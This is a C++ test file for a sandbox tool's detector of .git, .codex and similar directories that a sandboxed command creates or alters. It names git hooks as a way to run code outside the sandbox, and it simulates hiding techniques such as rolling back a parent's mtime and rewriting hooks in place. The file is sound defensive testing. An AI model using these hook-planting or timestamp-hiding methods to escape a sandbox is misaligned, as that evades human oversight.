// The walk behind `exec --json` "protected_names_created", against real temporary trees: what
// counts as created during the run, what is never followed, and the bounds. Most cases run
// against every detector (CreatedNamesDetectors): the one-shot walk (find_created_names, the
// reference), CreatedNamesScan's scan, and CreatedNamesScan's fanotify events, each set up
// before the changes as a run sets it up before its command starts.
#include "sbx/core/created_names.hpp"

#include <fcntl.h>
#include <grp.h>
#include <gtest/gtest.h>
#include <sched.h>
#include <stdlib.h>
#include <sys/fanotify.h>
#include <sys/mount.h>
#include <sys/resource.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <unistd.h>

#include <cerrno>
#include <cstring>
#include <filesystem>
#include <fstream>
#include <memory>
#include <optional>
#include <random>
#include <string>
#include <vector>

#include "sbx_test/files.hpp"
#include "sbx_test/temp_dir.hpp"

namespace sbx {
namespace {

namespace fs = std::filesystem;

// A scratch tree with a helper to lay out files in it.
class Tree {
 public:
  Tree() = default;
  explicit Tree(const std::string& parent) : dir_(parent) {}
  std::string operator/(const std::string& rel) const { return dir_ / rel; }
  const std::string& root() const { return dir_.path(); }
  void file(const std::string& rel, const std::string& text = "x") const {
    fs::create_directories(fs::path(*this / rel).parent_path());
    std::ofstream(*this / rel) << text;
  }

 private:
  sbx::test::TempDir dir_;
};

CreatedNamesWatch watch_of(const std::vector<std::string>& roots) {
  return CreatedNamesWatch{roots, {".git", ".codex"}};
}

// A start time strictly after everything made so far (past the coarse clock's tick).
std::int64_t start_after_setup() {
  ::usleep(30 * 1000);
  return created_names_clock();
}

// CreatedNamesScan's two ways: its scan alone, and its events where this process may watch.
CreatedNamesLimits scan_only(CreatedNamesLimits limits = {}) {
  limits.events = false;
  return limits;
}
CreatedNamesLimits with_events(CreatedNamesLimits limits = {}) {
  limits.events = true;
  return limits;
}

// The detectors compared. The walk is the reference; "Stat": as if every directory entry's
// type were DT_UNKNOWN (a statx each), which must find the same names.
enum class Detector { kWalk, kWalkStat, kScan, kScanStat, kEvents };

std::string detector_name(Detector detector) {
  switch (detector) {
    case Detector::kWalk:
      return "Walk";
    case Detector::kWalkStat:
      return "WalkStat";
    case Detector::kScan:
      return "Scan";
    case Detector::kScanStat:
      return "ScanStat";
    case Detector::kEvents:
      return "Events";
  }
  return "?";
}

// Whether this process may watch `dir`'s filesystem with fanotify as CreatedNamesScan does
// (CAP_SYS_ADMIN in the initial user namespace, CAP_DAC_READ_SEARCH): empty, or why not.
std::string why_no_events(const std::string& dir) {
  const int group = ::fanotify_init(
      FAN_CLASS_NOTIF | FAN_CLOEXEC | FAN_NONBLOCK | FAN_REPORT_DFID_NAME | FAN_REPORT_FID,
      O_RDONLY);
  if (group < 0) return std::string("fanotify_init: ") + std::strerror(errno);
  std::string why;
  if (::fanotify_mark(group, FAN_MARK_ADD | FAN_MARK_FILESYSTEM, FAN_CREATE | FAN_ONDIR, AT_FDCWD,
                      dir.c_str()) != 0) {
    why = std::string("fanotify_mark(FAN_MARK_FILESYSTEM): ") + std::strerror(errno);
  } else {
    alignas(struct file_handle) unsigned char bytes[sizeof(struct file_handle) + MAX_HANDLE_SZ];
    auto* handle = reinterpret_cast<struct file_handle*>(bytes);
    handle->handle_bytes = MAX_HANDLE_SZ;
    int mount_id = 0;
    const int root = ::open(dir.c_str(), O_RDONLY | O_DIRECTORY | O_CLOEXEC);
    const int back = ::name_to_handle_at(AT_FDCWD, dir.c_str(), handle, &mount_id, 0) == 0
                         ? ::open_by_handle_at(root, handle, O_PATH | O_CLOEXEC)
                         : -1;
    if (back < 0) why = std::string("name_to_handle_at/open_by_handle_at: ") + std::strerror(errno);
    if (back >= 0) ::close(back);
    if (root >= 0) ::close(root);
  }
  ::close(group);
  return why;
}

// One detector, set up before the changes it must see (as a run sets it up before its command
// starts: the scan has read the tree, the events are being read) and asked after them.
class Detection {
 public:
  Detection(Detector detector, const CreatedNamesWatch& watch, std::int64_t start,
            CreatedNamesLimits limits = {})
      : detector_(detector), watch_(watch), start_(start), limits_(limits) {
    limits_.trust_d_type = detector != Detector::kWalkStat && detector != Detector::kScanStat;
    limits_.events = detector == Detector::kEvents;
    if (detector == Detector::kWalk || detector == Detector::kWalkStat) return;
    scan_ = std::make_unique<CreatedNamesScan>(watch_, start_, limits_);
    if (detector != Detector::kEvents) scan_->wait_until_scanned();
  }
  // Events only: why this detector does not watch (empty: it does).
  std::string not_watching() const {
    if (!scan_ || detector_ != Detector::kEvents || scan_->event_roots() > 0) return "";
    const std::string why = why_no_events(watch_.roots.empty() ? "/tmp" : watch_.roots[0]);
    return "fanotify is not available to this process (" +
           (why.empty() ? std::string("yet a probe succeeded") : why) + ")";
  }
  CreatedNames finish() {
    if (!scan_) return find_created_names(watch_, start_, limits_);
    CreatedNames found = scan_->finish();
    fell_back_ = scan_->events_fell_back();
    return found;
  }
  // Events only, after finish(): why they did not answer (empty: they did).
  const std::string& fell_back() const { return fell_back_; }

 private:
  Detector detector_;
  CreatedNamesWatch watch_;
  std::int64_t start_;
  CreatedNamesLimits limits_;
  std::unique_ptr<CreatedNamesScan> scan_;
  std::string fell_back_;
};

class CreatedNamesDetectors : public ::testing::TestWithParam<Detector> {
 protected:
  // Skips (saying why) an events case where this process may not watch; as root with fanotify
  // the events must be what answers.
  Detection detect(const CreatedNamesWatch& watch, std::int64_t start,
                   const CreatedNamesLimits& limits = {}) {
    Detection detection(GetParam(), watch, start, limits);
    skip_ = detection.not_watching();
    return detection;
  }
  // finish(), and for the events: they answered, nothing fell back to the walk.
  CreatedNames finish(Detection& detection) {
    CreatedNames found = detection.finish();
    EXPECT_EQ(detection.fell_back(), "") << "the events fell back to the walk";
    return found;
  }
  std::string skip_;
};

#define SKIP_IF_NOT_WATCHING()                 \
  do {                                         \
    if (!skip_.empty()) GTEST_SKIP() << skip_; \
  } while (false)

INSTANTIATE_TEST_SUITE_P(All, CreatedNamesDetectors,
                         ::testing::Values(Detector::kWalk, Detector::kWalkStat, Detector::kScan,
                                           Detector::kScanStat, Detector::kEvents),
                         [](const ::testing::TestParamInfo<Detector>& param) {
                           return detector_name(param.param);
                         });

TEST_P(CreatedNamesDetectors, ListsNestedNamesCreatedAfterTheStart) {
  Tree tree;
  tree.file("old/.git/config");
  const std::int64_t start = start_after_setup();
  Detection detection = detect(watch_of({tree.root()}), start);
  SKIP_IF_NOT_WATCHING();
  tree.file("vendor/lib/.git/config");
  tree.file("a/b/c/.codex/settings");
  tree.file("worktree/.git", "gitdir: /elsewhere\n");  // a .git file counts too
  const CreatedNames found = finish(detection);
  EXPECT_EQ(found.paths, (std::vector<std::string>{tree / "a/b/c/.codex", tree / "vendor/lib/.git",
                                                   tree / "worktree/.git"}));
  EXPECT_FALSE(found.truncated);
}

TEST_P(CreatedNamesDetectors, ChangeInsideAnExistingNameCounts) {
  Tree tree;
  tree.file("old/.git/hooks/pre-commit", "#!/bin/sh\n");
  tree.file("quiet/.git/config");
  const std::int64_t start = start_after_setup();
  Detection detection = detect(watch_of({tree.root()}), start);
  SKIP_IF_NOT_WATCHING();
  std::ofstream(tree / "old/.git/hooks/pre-commit", std::ios::app) << "touch /tmp/x\n";
  const CreatedNames found = finish(detection);
  EXPECT_EQ(found.paths, std::vector<std::string>{tree / "old/.git"});
}

TEST_P(CreatedNamesDetectors, EmptyDirectoriesAndUnwatchedNamesAreLeftOut) {
  Tree tree;
  const std::int64_t start = start_after_setup();
  Detection detection = detect(watch_of({tree.root()}), start);
  SKIP_IF_NOT_WATCHING();
  fs::create_directories(tree / "mount-point/.codex");  // like bwrap's transient mount points
  tree.file("sub/.hg/hgrc");
  const CreatedNames found = finish(detection);
  EXPECT_TRUE(found.paths.empty());
}

// A socket at a protected name is what a concurrent bwrap run's mask of a missing name stands
// on (its mount point on the host): made and removed by that run while this one runs, it must
// not be reported as something this command created. A file with that name still is, empty or
// not; so is a socket inside a protected directory (the directory changed).
TEST_P(CreatedNamesDetectors, SocketsAtProtectedNamesAreLeftOut) {
  Tree tree;
  tree.file("old/.git/config");
  const std::int64_t start = start_after_setup();
  Detection detection = detect(watch_of({tree.root()}), start);
  SKIP_IF_NOT_WATCHING();
  ASSERT_TRUE(sbx::test::make_socket_inode(tree / ".git"));
  fs::create_directories(tree / "ws");
  ASSERT_TRUE(sbx::test::make_socket_inode(tree / "ws/.codex"));
  tree.file("empty/.git", "");
  ASSERT_TRUE(sbx::test::make_socket_inode(tree / "old/.git/sock"));
  const std::vector<std::string> expected = {tree / "empty/.git", tree / "old/.git"};
  EXPECT_EQ(finish(detection).paths, expected);
}

TEST_P(CreatedNamesDetectors, SymlinksAreNeverFollowed) {
  Tree tree;
  Tree outside;
  const std::int64_t start = start_after_setup();
  Detection detection = detect(watch_of({tree.root()}), start);
  SKIP_IF_NOT_WATCHING();
  outside.file("repo/.git/config");
  fs::create_directory_symlink(outside / "repo", tree / "link");
  fs::create_directory_symlink(outside / "repo/.git", tree / ".git");
  const CreatedNames found = finish(detection);
  // The symlink named .git is itself a new entry with that name; nothing behind "link" is seen.
  EXPECT_EQ(found.paths, std::vector<std::string>{tree / ".git"});
}

TEST_P(CreatedNamesDetectors, NestedRootIsWalkedOnce) {
  Tree tree;
  const std::int64_t start = start_after_setup();
  // "inner" does not exist yet: as a root it is walked after the run whatever the detector.
  Detection detection = detect(watch_of({tree.root(), tree / "inner"}), start);
  SKIP_IF_NOT_WATCHING();
  tree.file("inner/x/.git/config");
  const CreatedNames found = finish(detection);
  EXPECT_EQ(found.paths, std::vector<std::string>{tree / "inner/x/.git"});
}

// Where a name ends up after the run is what is reported: a watched entry made and then moved
// (or whose parent is moved), and a directory made elsewhere then renamed to a watched name.
TEST_P(CreatedNamesDetectors, NamesAreReportedWhereTheRunLeftThem) {
  Tree tree;
  tree.file("keep/old/.git/config");
  fs::create_directories(tree / "elsewhere");
  const std::int64_t start = start_after_setup();
  Detection detection = detect(watch_of({tree.root()}), start);
  SKIP_IF_NOT_WATCHING();
  tree.file("a/b/.git/hooks/pre-commit", "#!/bin/sh\n");
  fs::rename(tree / "a", tree / "z");  // the parent of the new .git moves
  tree.file("staging/hooks/post-checkout", "#!/bin/sh\n");
  fs::rename(tree / "staging", tree / "repo-.git");  // made, then renamed to a watched name
  fs::create_directories(tree / "r");
  fs::rename(tree / "repo-.git", tree / "r/.git");
  std::ofstream(tree / "keep/old/.git/config", std::ios::app) << "[core]\n";
  fs::rename(tree / "keep/old", tree / "elsewhere/old");  // an old .git changed, then moved
  tree.file("gone/.git/config");
  fs::remove_all(tree / "gone");  // made and removed: nothing left
  const CreatedNames found = finish(detection);
  EXPECT_EQ(found.paths, (std::vector<std::string>{tree / "elsewhere/old/.git", tree / "r/.git",
                                                   tree / "z/b/.git"}));
  EXPECT_FALSE(found.truncated);
}

TEST_P(CreatedNamesDetectors, DepthBoundTruncates) {
  Tree tree;
  const std::int64_t start = start_after_setup();
  CreatedNamesLimits limits;
  limits.max_depth = 2;
  Detection detection = detect(watch_of({tree.root()}), start, limits);
  SKIP_IF_NOT_WATCHING();
  tree.file("a/b/c/d/e/.git/config");
  const CreatedNames found = finish(detection);
  EXPECT_TRUE(found.truncated);
  EXPECT_TRUE(found.paths.empty());
}

// Attributes changed inside an old name (a directory's mode, a file's mode, its times) count
// as the change they are (the ctime moves); outside one they do not.
TEST_P(CreatedNamesDetectors, AttributesChangedInsideAnOldNameCount) {
  Tree tree;
  tree.file("one/.git/hooks/keep");
  tree.file("two/.git/hooks/pre-commit", "#!/bin/sh\n");
  tree.file("three/.codex");
  tree.file("plain/file");
  const std::int64_t start = start_after_setup();
  Detection detection = detect(watch_of({tree.root()}), start);
  SKIP_IF_NOT_WATCHING();
  fs::permissions(tree / "one/.git/hooks", fs::perms::owner_all);
  fs::permissions(tree / "two/.git/hooks/pre-commit", fs::perms::owner_all);
  fs::last_write_time(tree / "three/.codex", fs::file_time_type::clock::now());
  fs::permissions(tree / "plain/file", fs::perms::owner_all);
  const CreatedNames found = finish(detection);
  EXPECT_EQ(found.paths, (std::vector<std::string>{tree / "one/.git", tree / "three/.codex",
                                                   tree / "two/.git"}));
}

TEST(CreatedNames, EntryBoundTruncates) {
  Tree tree;
  const std::int64_t start = start_after_setup();
  for (int i = 0; i < 50; ++i) tree.file("d" + std::to_string(i) + "/f");
  CreatedNamesLimits limits;
  limits.max_entries = 10;
  const CreatedNames found = find_created_names(watch_of({tree.root()}), start, limits);
  EXPECT_TRUE(found.truncated);
}

TEST(CreatedNames, WatchUsesTheWritableRootsAndDefaultNames) {
  Policy policy;
  policy.filesystem.protected_names = {".vscode"};
  ResolvedPolicy resolved;
  resolved.rules = {{"/", Access::kRead}, {"/w", Access::kWrite}, {"/w/ro", Access::kRead}};
  const CreatedNamesWatch watch = created_names_watch(policy, resolved);
  EXPECT_EQ(watch.roots, std::vector<std::string>{"/w"});
  EXPECT_EQ(watch.names, (std::vector<std::string>{".git", ".codex", ".agents", ".vscode"}));
  resolved.filesystem_kind = FilesystemKind::kUnrestricted;
  EXPECT_TRUE(created_names_watch(policy, resolved).roots.empty());
}

TEST(CreatedNames, WarningNamesThePathAndTheRisk) {
  EXPECT_EQ(created_name_warning("/w/vendor/lib/.git"),
            "the command created or changed /w/vendor/lib/.git; a later git command there runs "
            "its hooks/config outside the sandbox");
}

// The walk stats only entries with a watched name and what is inside them, and learns what is a
// directory elsewhere from the directory entry's type (DT_UNKNOWN: a statx): the "Stat"
// detectors below check that both ways find the same names.

TEST_P(CreatedNamesDetectors, DeepNewNameUnderUnchangedDirectoriesIsFound) {
  Tree tree;
  for (int i = 0; i < 20; ++i) tree.file("a/b/c/d/e/f" + std::to_string(i));
  tree.file("a/b/side/g");
  const std::int64_t start = start_after_setup();
  Detection detection = detect(watch_of({tree.root()}), start);
  SKIP_IF_NOT_WATCHING();
  // Only e's own times change (a new entry); a, b, c, d are untouched and not watched.
  tree.file("a/b/c/d/e/.git/hooks/post-checkout", "#!/bin/sh\n");
  const CreatedNames found = finish(detection);
  EXPECT_EQ(found.paths, std::vector<std::string>{tree / "a/b/c/d/e/.git"});
  EXPECT_FALSE(found.truncated);
}

TEST_P(CreatedNamesDetectors, FileChangedDeepInsideAnOldNameMarksTheName) {
  Tree tree;
  tree.file("p/q/.git/objects/ab/cdef", "old");
  tree.file("p/q/.git/objects/ab/other", "old");
  tree.file("p/q/.git/HEAD", "ref: refs/heads/main\n");
  const std::int64_t start = start_after_setup();
  Detection detection = detect(watch_of({tree.root()}), start);
  SKIP_IF_NOT_WATCHING();
  // Rewritten in place: no directory's times change, only the file's (ctime).
  std::ofstream(tree / "p/q/.git/objects/ab/cdef", std::ios::trunc) << "new";
  const CreatedNames found = finish(detection);
  EXPECT_EQ(found.paths, std::vector<std::string>{tree / "p/q/.git"});
}

TEST_P(CreatedNamesDetectors, ChangesOutsideWatchedNamesReportNothing) {
  Tree tree;
  tree.file("src/main.c", "int main;");
  tree.file("src/deep/er/still/lib.c", "x");
  tree.file("repo/.git/config");
  const std::int64_t start = start_after_setup();
  Detection detection = detect(watch_of({tree.root()}), start);
  SKIP_IF_NOT_WATCHING();
  std::ofstream(tree / "src/main.c", std::ios::trunc) << "int main(void);";
  std::ofstream(tree / "src/deep/er/still/lib.c", std::ios::app) << "y";
  tree.file("src/deep/new-dir/new-file");
  tree.file("repo/README");  // next to the old .git, not inside it
  const CreatedNames found = finish(detection);
  EXPECT_TRUE(found.paths.empty());
  EXPECT_FALSE(found.truncated);
}

TEST_P(CreatedNamesDetectors, OldSymlinkToADirectoryGainingANameIsNotFollowed) {
  Tree tree;
  Tree outside;
  outside.file("target/keep");
  fs::create_directories(tree / "deep/er");
  fs::create_directory_symlink(outside / "target", tree / "deep/er/link");
  const std::int64_t start = start_after_setup();
  Detection detection = detect(watch_of({tree.root()}), start);
  SKIP_IF_NOT_WATCHING();
  outside.file("target/.git/config");  // seen through tree/deep/er/link only by following it
  outside.file("target/sub/.codex/x");
  const CreatedNames found = finish(detection);
  EXPECT_TRUE(found.paths.empty());
}

TEST_P(CreatedNamesDetectors, SymlinkInsideAWatchedNameIsALeaf) {
  Tree tree;
  Tree outside;
  tree.file("r/.git/config");
  fs::create_directory_symlink(outside.root(), tree / "r/.git/escape");
  const std::int64_t start = start_after_setup();
  Detection detection = detect(watch_of({tree.root()}), start);
  SKIP_IF_NOT_WATCHING();
  outside.file("anything/new");  // changes behind the symlink are not the .git's
  const CreatedNames found = finish(detection);
  EXPECT_TRUE(found.paths.empty());
}

TEST_P(CreatedNamesDetectors, OddBytesInNamesAreHandled) {
  Tree tree;
  const std::string odd = std::string("we\x01ird\xff name\n");
  tree.file(odd + "/.git/config");
  const std::int64_t start = start_after_setup();
  Detection detection = detect(watch_of({tree.root()}), start);
  SKIP_IF_NOT_WATCHING();
  tree.file(odd + "/x/.codex/y");
  const CreatedNames found = finish(detection);
  EXPECT_EQ(found.paths, std::vector<std::string>{tree / (odd + "/x/.codex")});
}

TEST_P(CreatedNamesDetectors, ManyEntriesInOneDirectoryAreAllRead) {
  Tree tree;
  // More entries than one getdents64 buffer holds, with the new name listed late or early.
  for (int i = 0; i < 1500; ++i) tree.file("big/entry-with-a-longish-name-" + std::to_string(i));
  const std::int64_t start = start_after_setup();
  Detection detection = detect(watch_of({tree.root()}), start);
  SKIP_IF_NOT_WATCHING();
  tree.file("big/zz/.git/config");
  tree.file("big/aa/.git/config");
  const CreatedNames found = finish(detection);
  EXPECT_EQ(found.paths, (std::vector<std::string>{tree / "big/aa/.git", tree / "big/zz/.git"}));
}

// The tests below that need a mount namespace of their own run in a forked child, which writes
// its findings (or "SKIP <why>") on a pipe and exits.
[[noreturn]] void report_and_exit(int write_fd, const std::string& report) {
  [[maybe_unused]] const ssize_t written = ::write(write_fd, report.data(), report.size());
  ::_exit(0);
}

// What that child wrote on the pipe `fds` (both ends are closed here), once it has exited 0;
// nullopt when it did not.
std::optional<std::string> report_of_child(pid_t child, const int fds[2]) {
  ::close(fds[1]);
  std::string report;
  char chunk[512];
  for (ssize_t n; (n = ::read(fds[0], chunk, sizeof chunk)) > 0;)
    report.append(chunk, static_cast<std::size_t>(n));
  ::close(fds[0]);
  int status = 0;
  if (::waitpid(child, &status, 0) != child || !WIFEXITED(status) || WEXITSTATUS(status) != 0)
    return std::nullopt;
  return report;
}

// Mount points below a root: another filesystem is never entered, a bind mount of the same one
// is walked like any directory. Run in a child with its own mount namespace; the child reports
// the names it found on a pipe ("SKIP ..." when it cannot set up the mounts).
TEST_P(CreatedNamesDetectors, OtherFilesystemsAreNotEnteredBindMountsOfTheSameAre) {
  Tree tree;
  fs::create_directories(tree / "tmpfs");
  fs::create_directories(tree / "bind");
  tree.file("src/keep");
  const std::int64_t start = start_after_setup();
  int fds[2];
  ASSERT_EQ(::pipe(fds), 0);
  const pid_t child = ::fork();
  ASSERT_GE(child, 0);
  if (child == 0) {
    ::close(fds[0]);
    std::string out;
    if (::unshare(CLONE_NEWNS) != 0 ||
        ::mount(nullptr, "/", nullptr, MS_REC | MS_PRIVATE, nullptr) != 0 ||
        ::mount("tmpfs", (tree / "tmpfs").c_str(), "tmpfs", 0, nullptr) != 0 ||
        ::mount((tree / "src").c_str(), (tree / "bind").c_str(), nullptr, MS_BIND, nullptr) != 0) {
      out = std::string("SKIP cannot set up mounts in a mount namespace: ") + std::strerror(errno);
    } else {
      // Set up once the mounts are there (a bind mount made during the run is another case:
      // the events then fall back to the walk).
      Detection detection = detect(watch_of({tree.root()}), start);
      tree.file("tmpfs/.git/config");  // on the tmpfs: another filesystem
      tree.file("src/x/.git/config");  // seen at src/x and, through the bind mount, bind/x
      const CreatedNames found = detection.finish();
      if (!skip_.empty()) {
        out = "SKIP " + skip_;
      } else if (!detection.fell_back().empty()) {
        out = "FELL BACK " + detection.fell_back();
      } else {
        for (const std::string& path : found.paths) out += path + "\n";
      }
    }
    report_and_exit(fds[1], out);
  }
  const std::optional<std::string> report = report_of_child(child, fds);
  ASSERT_TRUE(report) << "the child did not exit 0";
  const std::string& got = *report;
  if (got.rfind("SKIP", 0) == 0) GTEST_SKIP() << got;
  EXPECT_EQ(got, tree / "bind/x/.git" + "\n" + tree / "src/x/.git" + "\n");
}

// A tree deeper than the descriptors the process may still open: the walk cannot see the
// bottom, and says so (truncated) instead of reporting a complete empty list.
TEST(CreatedNamesWalk, RunningOutOfDescriptorsTruncates) {
  Tree tree;
  std::string deep = "x";
  for (int i = 0; i < 40; ++i) deep += "/x";
  fs::create_directories(tree / deep);
  const std::int64_t start = start_after_setup();
  tree.file(deep + "/.git/config");
  const pid_t child = ::fork();
  ASSERT_GE(child, 0);
  if (child == 0) {
    const rlimit few{16, 16};  // the walk keeps one descriptor open per level
    if (::setrlimit(RLIMIT_NOFILE, &few) != 0) ::_exit(3);
    const CreatedNames found = find_created_names(watch_of({tree.root()}), start);
    if (!found.truncated || !found.paths.empty()) ::_exit(1);
    // CreatedNamesScan's scan with what is left (its budget is a quarter of it): the same
    // answer. (Its events hold two descriptors at a time below a root: they find the name.)
    CreatedNamesScan scan(watch_of({tree.root()}), start, scan_only());
    scan.wait_until_scanned();
    const CreatedNames scanned = scan.finish();
    ::_exit(scanned.truncated && scanned.paths.empty() ? 0 : 2);
  }
  int status = 0;
  ASSERT_EQ(::waitpid(child, &status, 0), child);
  ASSERT_TRUE(WIFEXITED(status));
  EXPECT_EQ(WEXITSTATUS(status), 0)
      << "1: not truncated, 2: the scan's answer differs, 3: setrlimit failed";
  // With descriptors to spare the same tree is walked to the bottom.
  const CreatedNames found = find_created_names(watch_of({tree.root()}), start);
  EXPECT_EQ(found.paths, std::vector<std::string>{tree / (deep + "/.git")});
  EXPECT_FALSE(found.truncated);
}

// CreatedNamesScan reads the tree while the command runs and checks its record after it; its
// answer must be find_created_names's, whatever the command did to the tree meanwhile. The
// tests below compare the two (find_created_names is the reference) on random trees changed
// in random ways, before, during and after the scan.

// A random tree: directories at random depths, files, a few old .git directories with files
// inside, an old .codex file, symlinks to directories.
void random_tree(const Tree& tree, std::mt19937& random, int dirs) {
  std::vector<std::string> made{""};
  for (int i = 0; i < dirs; ++i) {
    const std::string parent = made[random() % made.size()];
    const std::string dir = (parent.empty() ? "" : parent + "/") + "d" + std::to_string(i);
    fs::create_directories(tree / dir);
    made.push_back(dir);
    for (unsigned f = random() % 4; f > 0; --f) tree.file(dir + "/f" + std::to_string(f));
    if (random() % 8 == 0) tree.file(dir + "/.git/hooks/pre-commit", "#!/bin/sh\n");
    if (random() % 12 == 0) tree.file(dir + "/.codex", "old");
    if (random() % 16 == 0)
      fs::create_directory_symlink(tree / made[random() % made.size()], tree / (dir + "/link"));
  }
}

// The directories of the tree now (relative, "" for the root), symlinks not followed.
std::vector<std::string> directories_of(const Tree& tree) {
  std::vector<std::string> dirs{""};
  for (auto it = fs::recursive_directory_iterator(tree.root()); it != fs::end(it); ++it) {
    if (it->is_directory() && !it->is_symlink())
      dirs.push_back(fs::relative(it->path(), tree.root()).string());
  }
  return dirs;
}

std::string joined(const std::string& dir, const std::string& name) {
  return dir.empty() ? name : dir + "/" + name;
}

// One random change of the kind a command makes (or a command trying to hide what it made).
void random_change(const Tree& tree, std::mt19937& random, int serial) {
  const std::vector<std::string> dirs = directories_of(tree);
  const std::string dir = dirs[random() % dirs.size()];
  const std::string other = dirs[random() % dirs.size()];
  const std::string fresh = "n" + std::to_string(serial);
  std::error_code ignored;
  switch (random() % 9) {
    case 0:  // a new .git directory with a hook, at a random depth
      tree.file(joined(dir, ".git/hooks/post-checkout"), "#!/bin/sh\n");
      break;
    case 1:  // a new .codex file, or a new subtree with one deep inside
      if (random() % 2 == 0) {
        tree.file(joined(dir, ".codex"), "new");
      } else {
        tree.file(joined(dir, fresh + "/a/b/.codex/config"), "new");
      }
      break;
    case 2:  // a directory moved under another parent (never into itself)
      if (!dir.empty() && (other + "/").rfind(dir + "/", 0) != 0)
        fs::rename(tree / dir, tree / joined(other, fresh), ignored);
      break;
    case 3:  // a directory replaced by a symlink to another one
      if (!dir.empty() && (other + "/").rfind(dir + "/", 0) != 0) {
        fs::remove_all(tree / dir, ignored);
        fs::create_directory_symlink(tree / other, tree / dir, ignored);
      }
      break;
    case 4: {  // a file rewritten in place inside an old .git (no directory changes)
      for (const std::string& candidate : dirs) {
        if (fs::path(candidate).filename() == "hooks" && random() % 2 == 0) {
          std::ofstream(tree / (candidate + "/pre-commit"), std::ios::trunc) << "evil\n";
          break;
        }
      }
      break;
    }
    case 5: {  // a new name, then the parent's mtime set back to hide it (ctime cannot be)
      struct stat before {};
      ::stat((tree / dir).c_str(), &before);
      tree.file(joined(dir, fresh + "/.git/config"), "new");
      const struct timespec times[2] = {before.st_atim, before.st_mtim};
      ::utimensat(AT_FDCWD, (tree / dir).c_str(), times, 0);
      break;
    }
    case 6:  // a directory deleted
      if (!dir.empty()) fs::remove_all(tree / dir, ignored);
      break;
    case 7:  // a renamed .git directory within its parent
      if (fs::exists(tree / joined(dir, ".git")))
        fs::rename(tree / joined(dir, ".git"), tree / joined(dir, fresh), ignored);
      break;
    default:  // an ordinary new file or directory (nothing to report)
      tree.file(joined(dir, fresh + (random() % 2 == 0 ? "/plain" : "")), "x");
      break;
  }
}

// The scan's answer and find_created_names's, compared; changes made while the scan runs (a
// random share of them before it has finished reading), the rest after it has. `events`: the
// events' answer too, where this process may watch (set up with the scan, before the changes).
void expect_same_answer(const Tree& tree, std::mt19937& random, const CreatedNamesLimits& limits,
                        int changes, std::int64_t start, bool events = false) {
  const CreatedNamesWatch watch = watch_of({tree.root()});
  CreatedNamesScan scan(watch, start, scan_only(limits));
  std::optional<CreatedNamesScan> heard;
  if (events) {
    heard.emplace(watch, start, with_events(limits));
    if (why_no_events(tree.root()).empty()) {
      EXPECT_EQ(heard->event_roots(), 1u);
    }
  }
  const int early =
      changes == 0 ? 0 : static_cast<int>(random() % static_cast<unsigned>(changes + 1));
  for (int i = 0; i < early; ++i) random_change(tree, random, i);
  scan.wait_until_scanned();
  for (int i = early; i < changes; ++i) random_change(tree, random, i);
  const CreatedNames scanned = scan.finish();
  const CreatedNames reference = find_created_names(watch, start, limits);
  EXPECT_EQ(scanned.paths, reference.paths);
  EXPECT_EQ(scanned.truncated, reference.truncated);
  if (heard) {
    const CreatedNames from_events = heard->finish();
    EXPECT_EQ(heard->events_fell_back(), "");
    EXPECT_EQ(from_events.paths, reference.paths) << "the events";
    EXPECT_EQ(from_events.truncated, reference.truncated) << "the events";
  }
}

// And the events, set up before the changes (as a run sets them up before its command).
TEST(CreatedNamesScan, SameAnswerAsTheOneShotWalkOnRandomTreesAndChanges) {
  for (unsigned seed = 1; seed <= 40; ++seed) {
    SCOPED_TRACE("seed " + std::to_string(seed));
    std::mt19937 random(seed);
    Tree tree;
    random_tree(tree, random, 20 + static_cast<int>(random() % 60));
    const std::int64_t start = start_after_setup();
    CreatedNamesLimits limits;
    if (seed % 5 == 0) limits.trust_d_type = false;
    if (seed % 4 == 0) limits.scan_descriptors = random() % 6;  // most directories beyond it
    expect_same_answer(tree, random, limits, 1 + static_cast<int>(random() % 12), start, true);
  }
}

// The bounds stop the walk after the run where find_created_names stops (entries are counted in
// the same order, scanned or not): same `truncated`, same names found before the stop, for
// every bound from "stops at once" to "not reached". (The scan only: the events examine only
// what changed, and stop at the bounds only there: CreatedNamesEvents.BoundsHoldInsideAnEntry.)
TEST(CreatedNamesScan, SameAnswerAtTheBounds) {
  for (unsigned seed = 100; seed < 108; ++seed) {
    SCOPED_TRACE("seed " + std::to_string(seed));
    std::mt19937 random(seed);
    Tree tree;
    random_tree(tree, random, 40);
    const std::int64_t start = start_after_setup();
    for (int i = 0; i < 12; ++i) random_change(tree, random, 1000 + i);
    int truncated = 0;
    for (std::size_t entries = 1; entries < 400; entries += 3) {
      CreatedNamesLimits limits;
      limits.max_entries = entries;
      limits.max_depth = entries % 7 == 0 ? 1 + entries % 5 : 256;
      SCOPED_TRACE("max_entries " + std::to_string(entries));
      expect_same_answer(tree, random, limits, entries % 5 == 0 ? 1 : 0, start);
      truncated += find_created_names(watch_of({tree.root()}), start, limits).truncated ? 1 : 0;
    }
    EXPECT_GT(truncated, 0);
  }
}

// A directory changed under a changed parent (the parent is read again, the child found in it
// by identity) and under an unchanged one (the child checked through its record): both are
// read again, with descriptors held or not.
TEST(CreatedNamesScan, ChangedDirectoriesUnderChangedAndUnchangedParentsAreReadAgain) {
  for (const std::size_t descriptors : {std::size_t{2}, std::size_t{5}, std::size_t{1000}}) {
    SCOPED_TRACE("scan_descriptors " + std::to_string(descriptors));
    Tree tree;
    tree.file("a/b/c/keep");
    tree.file("x/y/z/keep");
    tree.file("p/q/keep");
    const std::int64_t start = start_after_setup();
    CreatedNamesLimits limits;
    limits.scan_descriptors = descriptors;
    const CreatedNamesWatch watch = watch_of({tree.root()});
    CreatedNamesScan scan(watch, start, scan_only(limits));
    CreatedNamesScan heard(watch, start, with_events(limits));
    scan.wait_until_scanned();
    tree.file("new-at-the-root");            // the root changes: read again
    tree.file("a/new-in-a");                 // a changes: read again
    tree.file("a/b/.git/config");            // b changes, under a changed a
    tree.file("a/b/c/.codex/config");        // c changes, under a changed b
    tree.file("x/y/z/.git/HEAD");            // z changes, under unchanged x and y
    fs::rename(tree / "p/q", tree / "x/q");  // q moves between parents (both change)
    tree.file("x/q/.agents");                // not watched here: nothing to report
    tree.file("x/q/.git");                   // q changes at its new place
    const CreatedNames found = scan.finish();
    EXPECT_EQ(found.paths, (std::vector<std::string>{tree / "a/b/.git", tree / "a/b/c/.codex",
                                                     tree / "x/q/.git", tree / "x/y/z/.git"}));
    EXPECT_EQ(found.paths, find_created_names(watch, start, limits).paths);
    EXPECT_EQ(heard.finish().paths, found.paths) << "the events";
  }
}

// More directories than the scan may hold descriptors for: those beyond the budget are opened
// again after the run; the answer is the same.
